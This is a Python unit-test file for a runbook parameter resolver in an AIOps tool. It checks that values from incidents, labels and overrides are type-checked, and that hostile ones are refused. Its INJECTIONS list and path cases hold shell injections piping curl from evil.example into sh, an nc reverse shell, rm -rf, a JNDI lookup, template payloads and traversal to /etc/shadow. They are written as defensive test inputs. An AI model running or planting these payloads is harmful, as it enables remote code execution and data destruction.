"""Resolving a runbook's parameters: from the incident, defaults and operators, each value checked; hostile values
from alert labels or incident fields are refused with a clear error and never reach a step."""

from __future__ import annotations

from typing import Any

import pytest
from aiops_action.executors._protocol import Step
from aiops_action.runbooks import ParameterError, ResolutionContext, Runbook, resolve
from aiops_action.runbooks.testing import cause, incident
from aiops_common.schemas import CauseKind, Evidence, EvidenceKind, IncidentSeverity, RankedCause

pytestmark = pytest.mark.unit

NAME = "[a-z0-9]([-a-z0-9]*[a-z0-9])?"

RUNBOOK = Runbook.model_validate(
    {
        "id": "clear-and-scale",
        "version": 3,
        "title": "Clear and scale",
        "risk": "high",
        "match": {"cause_kinds": ["saturation"]},
        "parameters": {
            "service": {"type": "string", "pattern": NAME, "max_length": 63, "from": "cause.service"},
            "namespace": {
                "type": "string",
                "pattern": NAME,
                "max_length": 63,
                "from": "labels.namespace",
                "default": "default",
            },
            "path": {"type": "string", "pattern": "/[A-Za-z0-9_./-]*", "from": "labels.mountpoint"},
            "replicas": {"type": "integer", "minimum": 1, "maximum": 20, "from": "labels.replicas", "default": 4},
            "ratio": {"type": "number", "minimum": 0, "maximum": 1, "default": 0.5},
            "force": {"type": "boolean", "default": False},
            "incident": {"type": "string", "pattern": "[a-z0-9-]+", "from": "incident.id"},
            "severity": {"type": "string", "enum": ["minor", "major", "critical"], "from": "incident.severity"},
            "version": {
                "type": "string",
                "pattern": "[A-Za-z0-9._+-]{1,64}",
                "from": "change.version",
                "default": "none",
            },
        },
        "steps": [
            {
                "name": "scale",
                "kind": "kubernetes",
                "action": "scale",
                "timeout_s": 90,
                "arguments": {
                    "namespace": {"param": "namespace"},
                    "deployment": {"param": "service"},
                    "replicas": {"param": "replicas"},
                },
            },
            {
                "name": "clear",
                "kind": "script",
                "action": "run",
                "arguments": {
                    "argv": [
                        "/usr/local/bin/clear-cache",
                        {"param": "path"},
                        "--force",
                        {"param": "force"},
                        {"param": "replicas"},
                    ]
                },
            },
            {
                "name": "tell",
                "kind": "http",
                "action": "POST",
                "arguments": {
                    "url": "https://hooks.example.com/x",
                    "body": {
                        "incident": {"param": "incident"},
                        "ratio": {"param": "ratio"},
                        "text": "literal {not a template}",
                    },
                },
            },
        ],
        "verify": {
            "series": "disk_used_percent",
            "match": {"service": {"param": "service"}, "mountpoint": {"param": "path"}},
            "upper": 85,
            "within_s": 300,
        },
        "rollback": [
            {
                "name": "scale back",
                "kind": "kubernetes",
                "action": "scale",
                "arguments": {"namespace": {"param": "namespace"}, "deployment": {"param": "service"}, "replicas": 2},
            },
        ],
    }
)

LABELS = {"namespace": "shop", "mountpoint": "/var/lib/app"}


def context(service: str = "payment", labels: dict[str, str] | None = None, **kw: Any) -> ResolutionContext:
    record = incident(service, labels=LABELS if labels is None else labels, **kw)
    return ResolutionContext(cause(service, CauseKind.SATURATION), record)


def test_values_come_from_the_incident_and_defaults_into_whole_argument_values() -> None:
    resolved = resolve(RUNBOOK, context(version="v2.4.1"))
    assert dict(resolved.parameters) == {
        "service": "payment",
        "namespace": "shop",
        "path": "/var/lib/app",
        "replicas": 4,
        "ratio": 0.5,
        "force": False,
        "incident": "inc-0001",
        "severity": "major",
        "version": "v2.4.1",
    }
    assert resolved.sources["service"] == "cause.service" and resolved.sources["replicas"] == "default"
    assert resolved.sources["version"] == "change.version"
    assert (resolved.runbook_id, resolved.version, resolved.risk) == ("clear-and-scale", 3, "high")
    assert resolved.steps == (
        Step("scale", "kubernetes", "scale", {"namespace": "shop", "deployment": "payment", "replicas": 4}, 90.0),
        Step(
            "clear",
            "script",
            "run",
            {"argv": ["/usr/local/bin/clear-cache", "/var/lib/app", "--force", "false", "4"]},
            60.0,
        ),
        Step(
            "tell",
            "http",
            "POST",
            {
                "url": "https://hooks.example.com/x",
                "body": {"incident": "inc-0001", "ratio": 0.5, "text": "literal {not a template}"},
            },
            60.0,
        ),
    )
    assert resolved.rollback == (
        Step("scale back", "kubernetes", "scale", {"namespace": "shop", "deployment": "payment", "replicas": 2}, 60.0),
    )
    assert dict(resolved.verify.match) == {"service": "payment", "mountpoint": "/var/lib/app"}
    assert (resolved.verify.series, resolved.verify.upper, resolved.verify.within_s) == ("disk_used_percent", 85, 300)


def test_overrides_win_and_are_checked_the_same_way() -> None:
    resolved = resolve(RUNBOOK, context(), {"replicas": "7", "force": "true", "ratio": 1, "namespace": "ops"})
    assert resolved.parameters["replicas"] == 7 and resolved.parameters["force"] is True
    assert resolved.parameters["ratio"] == 1.0 and resolved.sources["replicas"] == "override"
    assert resolved.steps[0].arguments == {"namespace": "ops", "deployment": "payment", "replicas": 7}
    with pytest.raises(ParameterError, match=r"parameter 'replicas' \(from override\): 21 is above the maximum 20"):
        resolve(RUNBOOK, context(), {"replicas": 21})
    with pytest.raises(ParameterError, match=r"parameter 'replicas' \(from override\): True is not an integer"):
        resolve(RUNBOOK, context(), {"replicas": True})
    with pytest.raises(ParameterError, match=r"'force' \(from override\): 'yes' is not a boolean"):
        resolve(RUNBOOK, context(), {"force": "yes"})
    with pytest.raises(ParameterError, match=r"'ratio' \(from override\): 'nan' is not a number"):
        resolve(RUNBOOK, context(), {"ratio": "nan"})
    with pytest.raises(ParameterError, match=r"'ratio' \(from override\): inf is not a finite number"):
        resolve(RUNBOOK, context(), {"ratio": float("inf")})
    with pytest.raises(ParameterError, match="clear-and-scale has no parameter 'shell'"):
        resolve(RUNBOOK, context(), {"shell": "/bin/sh"})


def test_a_value_the_incident_lacks_falls_back_to_the_default_or_fails() -> None:
    resolved = resolve(RUNBOOK, context(labels={"mountpoint": "/data"}))
    assert resolved.parameters["namespace"] == "default" and resolved.sources["namespace"] == "default"
    with pytest.raises(ParameterError, match=r"parameter 'path': no value \(labels.mountpoint is empty for this"):
        resolve(RUNBOOK, context(labels={}))
    assert resolve(RUNBOOK, context(labels={}), {"path": "/tmp"}).parameters["path"] == "/tmp"


def test_a_label_from_text_is_parsed_to_its_type() -> None:
    resolved = resolve(RUNBOOK, context(labels={**LABELS, "replicas": "12"}))
    assert resolved.parameters["replicas"] == 12 and resolved.sources["replicas"] == "labels.replicas"
    with pytest.raises(ParameterError, match=r"'replicas' \(from labels.replicas\): '1e3' is not an integer"):
        resolve(RUNBOOK, context(labels={**LABELS, "replicas": "1e3"}))


def test_an_enum_refuses_other_values() -> None:
    with pytest.raises(ParameterError, match=r"'severity' \(from incident.severity\): 'info' is not one of"):
        resolve(RUNBOOK, context(severity=IncidentSeverity.INFO))


def test_the_linked_change_is_the_latest_deployment_of_the_causes_service_else_the_causes_evidence() -> None:
    evidence = Evidence(kind=EvidenceKind.CHANGE, text="payment v9 deployed", version="v9", change_id="c9")
    with_evidence = RankedCause(service="payment", probability=0.9, kind=CauseKind.DEPLOYMENT, evidence=[evidence])
    record = incident("payment", labels=LABELS)
    assert ResolutionContext(with_evidence, record).value_of("change.version") == "v9"
    assert ResolutionContext(with_evidence, incident("payment", version="v3")).value_of("change.version") == "v3"
    assert (
        ResolutionContext(cause("db", CauseKind.DEPLOYMENT), incident("payment", version="v3")).value_of(
            "change.version"
        )
        is None
    )


INJECTIONS = [
    "x; rm -rf /",
    "x && curl evil.example | sh",
    "$(id)",
    "`id`",
    "x|nc -e /bin/sh 10.0.0.1 4444",
    "x > /etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "{% import os %}",
    "#{7*7}",
    "../../etc",
    "..",
    "a/../../b",
    "x\nkubectl delete ns prod",
    "x\r\ny",
    "x\x00y",
    "a" * 300,
    "a-" * 40 + "a",
    "payment'",
    'payment"',
    "payment\\",
    "payment*",
    " payment",
    "PAYMENT",
    "",
]


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_a_hostile_service_name_from_the_incident_is_refused(hostile: str) -> None:
    record = incident("payment", labels=LABELS)
    hostile_cause = cause(hostile, CauseKind.SATURATION) if hostile else cause("", CauseKind.SATURATION)
    with pytest.raises(ParameterError) as caught:
        resolve(RUNBOOK, ResolutionContext(hostile_cause, record))
    message = str(caught.value)
    assert (
        message.startswith("parameter 'service' (from cause.service): ") or "parameter 'service': no value" in message
    )
    assert "\n" not in message and len(message) < 300  # one readable line, the value shortened


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_hostile_labels_and_overrides_are_refused(hostile: str) -> None:
    with pytest.raises(ParameterError, match=r"parameter 'namespace' \(from labels.namespace\)"):
        resolve(RUNBOOK, context(labels={**LABELS, "namespace": hostile}))
    with pytest.raises(ParameterError, match=r"parameter 'service' \(from override\)"):
        resolve(RUNBOOK, context(), {"service": hostile})


@pytest.mark.parametrize(
    "path",
    ["/var/../etc/shadow", "/..", "/var/log/..", "/var/log/x;rm", "/var/$(id)", "/var/{{x}}", "/var/a\nb", "/v" * 200],
)
def test_paths_that_climb_out_or_carry_syntax_are_refused(path: str) -> None:
    with pytest.raises(ParameterError, match=r"parameter 'path' \(from labels.mountpoint\)"):
        resolve(RUNBOOK, context(labels={"mountpoint": path}))


def test_a_resolved_step_is_checked_again_with_its_values() -> None:
    # the parameter's pattern lets an upper-case name through; the Kubernetes slot does not
    loose = RUNBOOK.model_copy(
        update={
            "parameters": {
                **RUNBOOK.parameters,
                "namespace": RUNBOOK.parameters["namespace"].model_copy(update={"pattern": "[A-Za-z]+"}),
            }
        }
    )
    with pytest.raises(ParameterError, match=r"clear-and-scale: steps\[0\].arguments.namespace: 'Shop' is not a"):
        resolve(loose, context(labels={**LABELS, "namespace": "Shop"}))
